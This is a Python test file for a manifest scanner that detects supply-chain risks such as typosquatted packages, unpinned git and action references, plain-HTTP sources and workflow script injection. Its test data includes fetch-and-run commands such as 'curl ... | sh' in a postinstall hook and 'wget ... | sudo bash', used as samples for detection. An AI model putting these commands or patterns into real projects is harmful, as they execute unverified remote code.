"""Known-bad patterns in manifests: what is found, and what is left alone."""

import pytest

from tidemill.analysis.manifests import defects, is_manifest

COMMIT = "0123456789abcdef0123456789abcdef01234567"
CASES = [
    ("requirements.txt", "--extra-index-url https://packages.example/simple", "extra-index"),
    ("requirements.txt", "--index-url https://packages.example/simple", None),
    ("requirements/dev.in", "tool @ git+https://git.example/a/b.git@main", "unpinned-git"),
    ("requirements.txt", "tool @ git+https://git.example/a/b.git", "unpinned-git"),
    ("requirements.txt", f"tool @ git+https://git.example/a/b.git@{COMMIT}", None),
    ("requirements.txt", "--index-url http://packages.example/simple", "plain-http-source"),
    ("requirements.txt", "--trusted-host packages.example", "unverified-download"),
    ("requirements.txt", "reqeusts==2.0", "look-alike"),
    ("requirements.txt", "requests==2.0", None),
    ("requirements.txt", "flask-cors==4.0", None),
    ("requirements.txt", "# reqeusts==2.0 is another package", None),
    ("pyproject.toml", 'dependencies = ["tool @ git+https://git.example/a/b@main"]', "unpinned-git"),
    ("package.json", '    "lodahs": "^4.0.0",', "look-alike"),
    ("package.json", '    "lodash": "^4.0.0",', None),
    ("package.json", '    "left-pad": "*",', "any-version"),
    ("package.json", '    "left-pad": "github:a/left-pad",', "unpinned-git"),
    ("package.json", f'    "left-pad": "github:a/left-pad#{COMMIT}",', None),
    ("package.json", '    "postinstall": "curl https://a.example/x | sh"', "install-script"),
    ("package.json", '    "postinstall": "node build.js"', None),
    ("go.mod", "replace example.com/a => example.org/b v1.0.0", "replaced-module"),
    ("go.mod", "replace example.com/a => ../b", None),
    ("pom.xml", "<version>LATEST</version>", "any-version"),
    ("pom.xml", "<version>1.2.3</version>", None),
    ("pom.xml", "<url>http://repo.example/maven2</url>", "plain-http-source"),
    ("Dockerfile", "FROM python", "latest-tag"),
    ("Dockerfile", "FROM python:latest", "latest-tag"),
    ("Dockerfile", "FROM python:3.11-slim", None),
    ("Dockerfile", "FROM python:3.11 AS build\nFROM build", None),
    ("Dockerfile", "RUN curl -fsSL https://a.example/install.sh | sh", "script-from-network"),
    ("Dockerfile", "RUN curl -fsSLo install.sh https://a.example/install.sh", None),
    ("Dockerfile", "RUN curl -k https://a.example/x -o x", "unverified-download"),
    ("Dockerfile", "ADD https://a.example/x.tar.gz /x", "remote-add"),
    ("Dockerfile", "ADD x.tar.gz /x", None),
    (".github/workflows/ci.yml", "      - uses: some/action@v1", "unpinned-action"),
    (".github/workflows/ci.yml", f"      - uses: some/action@{COMMIT}", None),
    (".github/workflows/ci.yml", "      - uses: actions/checkout@v4", None),
    (".github/workflows/ci.yml", "      - run: echo ${{ github.event.pull_request.title }}", "script-injection"),
    (".github/workflows/ci.yml", "          TITLE: ${{ github.event.pull_request.title }}", None),
    ("install.sh", "wget -qO- https://a.example/x | sudo bash", "script-from-network"),
    ("README.md", "curl https://a.example/x | sh", None),
]


@pytest.mark.parametrize(("path", "line", "rule"), CASES)
def test_a_line_of_a_manifest_is_told_or_left_alone(path: str, line: str, rule: str | None) -> None:
    assert {defect.rule for defect in defects(path, line)} == ({rule} if rule else set())


def test_a_workflow_that_runs_strangers_code_with_secrets_is_critical() -> None:
    text = (
        "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n"
        "          ref: ${{ github.event.pull_request.head.sha }}\n"
    )
    assert [(one.rule, one.line, one.severity.value) for one in defects(".github/workflows/a.yml", text)] == [
        ("target-checkout", 8, "critical")
    ]
    assert defects(".github/workflows/a.yml", text.replace("pull_request_target", "pull_request")) == []


def test_only_manifests_are_read() -> None:
    assert [path for path in ("a/package.json", "src/app.py", "go.mod", "notes.txt") if is_manifest(path)] == [
        "a/package.json",
        "go.mod",
    ]
